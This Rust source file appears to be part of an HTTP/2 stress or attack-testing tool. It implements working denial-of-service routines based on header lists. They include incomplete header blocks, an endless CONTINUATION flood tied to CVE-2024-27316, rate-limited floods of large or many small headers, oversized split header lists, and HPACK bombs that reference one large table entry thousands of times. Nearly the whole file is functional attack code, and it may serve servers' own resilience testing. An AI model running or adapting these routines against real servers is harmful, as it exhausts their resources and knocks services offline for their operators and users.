//! Attacks with header lists.

use std::{io, time::Duration};

use tokio::time::{interval, sleep};

use super::{GET, STEP, Target, connections::send_and_wait};
use crate::support::http2::{self, END_HEADERS, END_STREAM, frame};

/// Sends header lists without an end.
pub(super) async fn incomplete_header_lists(target: Target) -> io::Result<()> {
    let block = &target.call(GET, &[("a", &"x".repeat(15_000))])[..15_000];
    let half = frame(http2::HEADERS, 0, 1, block);
    let bytes = [http2::PREFACE, &half, &half[..14_000]].concat();
    send_and_wait(&target, &bytes[..bytes.len() - (target.worker as usize % 2) * 14_000]).await
}

/// Sends header lists with endless CONTINUATION frames (CVE-2024-27316).
pub(super) async fn continuation_floods(target: Target) -> io::Result<()> {
    let mut sender = target.sender().await?;
    sender.send(&frame(http2::HEADERS, 0, 1, &target.call(GET, &[]))).await?;
    let more = [
        &b""[..],
        &http2::literal_header(0, "a", "b"),
        &http2::literal_header(0, "a", &"x".repeat(10_000)),
    ];
    let more = frame(http2::CONTINUATION, 0, 1, more[target.worker as usize % 3]);
    loop {
        sender.send(&more.repeat(20)).await?;
        target.count_step();
        sleep(STEP).await;
    }
}

/// Makes calls with the maximum size of metadata and without a body: 400 a second in total.
pub(super) async fn large_header_lists(target: Target) -> io::Result<()> {
    call_repeatedly(&target, &target.call(GET, &[("a", &"x".repeat(15_000))]), 10).await
}

/// Makes calls with metadata of many small entries and without a body: 200 a second in total.
pub(super) async fn many_small_headers(target: Target) -> io::Result<()> {
    call_repeatedly(&target, &target.call(GET, &[("a", ""); 440]), 5).await
}

/// Makes calls without a body: 800 a second in total.
pub(super) async fn calls_without_a_body(target: Target) -> io::Result<()> {
    call_repeatedly(&target, &target.call(GET, &[]), 20).await
}

/// Makes calls without a body until the connection closes.
pub(super) async fn call_repeatedly(
    target: &Target,
    block: &[u8],
    per_second: u32,
) -> io::Result<()> {
    let mut sender = target.sender().await?;
    let mut ticks = interval(Duration::from_secs(1) / per_second);
    loop {
        ticks.tick().await;
        let id = sender.next_stream_id();
        sender.send(&frame(http2::HEADERS, END_HEADERS, id, block)).await?;
        target.count_step();
    }
}

pub(super) async fn oversized_header_lists(target: Target) -> io::Result<()> {
    let mut sender = target.sender().await?;
    let block = target.call(GET, &[("a", &"x".repeat(8_000)), ("b", &"x".repeat(8_400))]);
    loop {
        let id = sender.next_stream_id();
        let (begin, end) = block.split_at(16_000);
        sender.send(&frame(http2::HEADERS, END_STREAM, id, begin)).await?;
        sender.send(&frame(http2::CONTINUATION, END_HEADERS, id, end)).await?;
        target.count_step();
        sleep(STEP).await;
    }
}

/// Adds a large entry to the HPACK table and references it many times, one byte each.
pub(super) async fn hpack_bombs(target: Target) -> io::Result<()> {
    let mut sender = target.sender().await?;
    loop {
        let mut block = target.call(GET, &[]);
        block.extend(http2::literal_header(0x40, "a", &"x".repeat(3_900)));
        block.extend([0xbe].repeat(if target.worker.is_multiple_of(2) { 2 } else { 10_000 }));
        let id = sender.next_stream_id();
        sender.send(&frame(http2::HEADERS, END_HEADERS, id, &block)).await?;
        target.count_step();
        sleep(STEP).await;
    }
}
